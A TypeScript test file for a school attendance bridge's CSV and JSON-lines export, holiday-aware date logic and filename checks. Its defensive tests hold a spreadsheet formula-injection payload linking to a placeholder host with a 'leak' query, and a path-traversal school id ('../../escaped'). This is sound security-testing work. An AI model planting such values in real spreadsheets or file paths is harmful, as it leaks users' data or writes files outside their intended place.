import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chainRecords } from '@educard/terminal-sdk/testing';
import { parse } from 'csv-parse/sync';
import { pino } from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Directory } from '../directory/index.js';
import type { RosterService } from '../roster/index.js';
import type { BadRow, BridgeStore } from '../store/index.js';
import { openTestStore } from '../store/test-store.js';
import { FileExchange, previousSchoolDay } from './files.js';
import { CentralState } from './tables.js';

const calendar = {
  timeZone: 'Asia/Shanghai',
  holidays: ['2026-10-01', '2026-10-02'],
  closures: ['2026-09-30'],
  makeUpDays: [{ date: '2026-09-27', as: 3 }],
};
// 2026-10-05 is a Monday; 08:00 in Shanghai.
const MONDAY_MORNING = Date.parse('2026-10-05T08:00:00+08:00');

describe('the previous school day', () => {
  it('skips weekends, holidays and closures, and counts a make-up day', () => {
    expect(previousSchoolDay(calendar, MONDAY_MORNING)).toBe('2026-09-29');
    expect(previousSchoolDay(calendar, Date.parse('2026-09-28T08:00:00+08:00'))).toBe('2026-09-27');
    // Just after midnight in Shanghai it is already the next day there, though not yet in UTC.
    expect(previousSchoolDay(calendar, Date.parse('2026-09-29T00:30:00+08:00'))).toBe('2026-09-28');
  });
});

let dir: string;
let store: BridgeStore;
let badRows: BadRow[];

/** File mode over this test's store, its directories in `dir` unless given, bad rows kept in `badRows`. */
const fileExchange = (deps: Partial<ConstructorParameters<typeof FileExchange>[0]> = {}) =>
  new FileExchange({
    store,
    directory: new Directory(store.database),
    roster: {} as RosterService,
    state: new CentralState(store.database),
    logger: pino({ level: 'silent' }),
    inboxDir: join(dir, 'inbox'),
    outboxDir: join(dir, 'outbox'),
    importIntervalMs: 60_000,
    exportIntervalMs: 60_000,
    onBadRow: (row) => badRows.push(row),
    ...deps,
  });

beforeEach(async () => {
  badRows = [];
  dir = await mkdtemp(join(tmpdir(), 'central-files-'));
  store = openTestStore(join(dir, 'bridge.db'));
});
afterEach(async () => {
  store.close();
  await rm(dir, { recursive: true, force: true });
});

describe('the attendance export', () => {
  it("writes each school's attendance of the previous school day once", async () => {
    const directory = new Directory(store.database);
    directory.putSchool({
      id: 's-1',
      name: 'One',
      times: { bellTime: '08:00', cutoffTime: '09:30', dismissalTime: '16:30' },
    });
    const asked: string[] = [];
    const files = fileExchange({
      directory,
      exportAttendance: (school, date) => {
        asked.push(`${school}:${date}`);
        return `person_id,status\np1,present\n`;
      },
    });
    await files.exportOutbox(MONDAY_MORNING);
    await files.exportOutbox(MONDAY_MORNING + 3_600_000);
    // No calendar on the roster yet: weekdays only, in China's time zone.
    expect(asked).toEqual(['s-1:2026-10-02']);
    expect(await readdir(join(dir, 'outbox'))).toEqual(['attendance-s-1-2026-10-02.csv']);
    expect(await readFile(join(dir, 'outbox', 'attendance-s-1-2026-10-02.csv'), 'utf8')).toContain(
      'p1,present',
    );
    await files.exportOutbox(MONDAY_MORNING + 86_400_000);
    expect(asked).toEqual(['s-1:2026-10-02', 's-1:2026-10-05']);
  });
});

describe('the event export', () => {
  it('writes hostile field values as text, never as a live formula', async () => {
    const at = '2026-10-05T00:00:00.000Z';
    const formula = '=HYPERLINK("http://x.invalid/?leak","open")';
    const records = chainRecords('gate-01', [
      { type: 'custom.note', at, data: { personId: formula, note: formula } },
      { type: '@SUM(1+1)', at, data: {} },
    ]);
    store.commitRecords('gate-01', 's-1', records);
    const files = fileExchange();
    expect(await files.exportOutbox(MONDAY_MORNING)).toBe(2);
    const name = (await readdir(join(dir, 'outbox'))).find((n) => n.endsWith('.csv')) as string;
    const rows = parse(await readFile(join(dir, 'outbox', name), 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows.map((row) => row.person_id)).toEqual([`'${formula}`, '']);
    expect(rows.map((row) => row.type)).toEqual(['custom.note', "'@SUM(1+1)"]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The JSON lines beside it keep the values as the device sent them: they are data, not a sheet.
    const jsonl = await readFile(join(dir, 'outbox', name.replace('.csv', '.jsonl')), 'utf8');
    expect(JSON.parse(jsonl.split('\n')[0] as string).record.data.personId).toBe(formula);
  });
});

describe('file names from stored ids', () => {
  it('never names a file from a school id that is no identifier: it is skipped and told', async () => {
    const directory = new Directory(store.database);
    for (const id of ['s-1', '../../escaped', 'a b'])
      store.database.prepare('INSERT INTO directory_schools (id, entry) VALUES (?, ?)').run(
        id,
        JSON.stringify({
          id,
          name: id,
          times: { bellTime: '08:00', cutoffTime: '09:30', dismissalTime: '16:30' },
        }),
      );
    const files = fileExchange({
      directory,
      inboxDir: join(dir, 'in', 'box'),
      outboxDir: join(dir, 'out', 'box'),
      exportAttendance: (school) => `school\n${school}\n`,
    });
    await files.exportOutbox(MONDAY_MORNING);
    expect(await readdir(join(dir, 'out', 'box'))).toEqual(['attendance-s-1-2026-10-02.csv']);
    expect(await readdir(join(dir, 'out'))).toEqual(['box']);
    expect(badRows.map((row) => row.key)).toEqual(['"../../escaped"', '"a b"']);
  });
});
